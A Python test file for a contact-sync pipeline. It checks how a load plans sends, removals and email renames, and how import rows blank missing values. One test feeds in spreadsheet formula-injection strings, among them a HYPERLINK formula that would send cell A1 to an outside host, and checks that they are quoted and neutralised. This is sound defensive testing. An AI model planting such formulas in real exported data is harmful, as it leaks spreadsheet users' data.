"""What a load sends, removes and renames, from what is wanted and what was last sent."""

from __future__ import annotations

import pandas as pd

from dotdyn_pipeline.defs.audience.formulas import FormulaGuard
from dotdyn_pipeline.defs.audience.load import import_rows, plan_book
from dotdyn_pipeline.state.mirror import BOOK_MEMBER_COLUMNS


def _wanted(rows):
    return pd.DataFrame(rows, columns=["list_id", "crm_table", "crm_id", "email", "email_key", "fingerprint"])


def _sent(rows):
    frame = pd.DataFrame(rows, columns=BOOK_MEMBER_COLUMNS)
    frame["dotdigital_contact_id"] = frame["dotdigital_contact_id"].astype("Int64")
    return frame


def test_new_changed_unchanged_gone_and_renamed_people():
    wanted = _wanted([
        ("L", "contact", "c1", "Ann@example.com", "ann@example.com", "f1"),      # unchanged
        ("L", "contact", "c2", "bob@example.com", "bob@example.com", "f2-new"),  # data changed
        ("L", "lead", "l1", "new@example.com", "new@example.com", "f3"),         # new
        ("L", "contact", "c3", "cy.new@example.com", "cy.new@example.com", "f4"),  # email changed
    ])
    sent = _sent([
        ("ann@example.com", "contact", "c1", "f1", 11),
        ("bob@example.com", "contact", "c2", "f2", 12),
        ("cy.old@example.com", "contact", "c3", "f4", 13),
        ("gone@example.com", "lead", "l9", "f9", None),
    ])
    plan = plan_book(wanted, sent)
    assert plan.unchanged == 1
    assert sorted(plan.send["crm_id"]) == ["c2", "c3", "l1"]
    assert list(plan.remove["email_key"]) == ["gone@example.com"]
    moved = plan.moved.iloc[0]
    assert (moved["email_key_old"], moved["email"], moved["dotdigital_contact_id"]) == (
        "cy.old@example.com", "cy.new@example.com", 13)


def test_nothing_to_do_when_all_is_as_sent():
    wanted = _wanted([("L", "contact", "c1", "a@example.com", "a@example.com", "f1")])
    plan = plan_book(wanted, _sent([("a@example.com", "contact", "c1", "f1", 1)]))
    assert (len(plan.send), len(plan.remove), len(plan.moved), plan.unchanged) == (0, 0, 0, 1)


def test_an_empty_book_gets_everyone():
    wanted = _wanted([("L", "contact", f"c{i}", f"p{i}@example.com", f"p{i}@example.com", "f") for i in range(3)])
    plan = plan_book(wanted, _sent([]))
    assert len(plan.send) == 3 and plan.remove.empty and plan.moved.empty


def test_import_rows_blank_missing_values_of_any_type_across_slices():
    frame = pd.DataFrame({
        "email": ["a@example.com", "b@example.com", "c@example.com"],
        "CITY": pd.Series(["Leeds", None, "York"], dtype="string"),
        "SCORE": [1.5, float("nan"), 3.0],
        "KIDS": pd.array([2, None, 0], dtype="Int64"),
    })
    before = frame.copy()
    rows = list(import_rows(frame, ["CITY", "SCORE", "KIDS"], slice_rows=2))
    assert rows == [{"Email": "a@example.com", "CITY": "Leeds", "SCORE": 1.5, "KIDS": 2},
                    {"Email": "b@example.com", "CITY": "", "SCORE": "", "KIDS": ""},
                    {"Email": "c@example.com", "CITY": "York", "SCORE": 3.0, "KIDS": 0}]
    pd.testing.assert_frame_equal(frame, before)  # the frame's own columns are not blanked


def test_import_rows_send_guarded_text_that_begins_like_a_formula_behind_a_quote_and_count_it():
    notes = ['=HYPERLINK("https://example.net/?"&A1,"x")', "+1+1", "@SUM(1)", "-2", "\tx", "\rx", "\nx",
             "a=b", "'=already", None]
    frame = pd.DataFrame({"email": [f"p{i}@example.com" for i in range(len(notes))],
                          "NOTE": pd.Series(notes, dtype="string"),
                          "SCORE": pd.Series(["-5"] * len(notes), dtype="string")})
    before = frame.copy()
    guard = FormulaGuard(frozenset({"NOTE"}))  # SCORE is Numeric: not guarded
    rows = list(import_rows(frame, ["NOTE", "SCORE"], guard, slice_rows=4))
    assert [row["NOTE"] for row in rows] == [f"'{note}" for note in notes[:7]] + ["a=b", "'=already", ""]
    assert {row["SCORE"] for row in rows} == {"-5"}
    assert guard.neutralised == 7
    pd.testing.assert_frame_equal(frame, before)  # the frame's own values are not changed
    unguarded = list(import_rows(frame, ["NOTE"], FormulaGuard(frozenset())))
    assert [row["NOTE"] for row in unguarded] == [*notes[:-1], ""], "protection off: sent as they are"
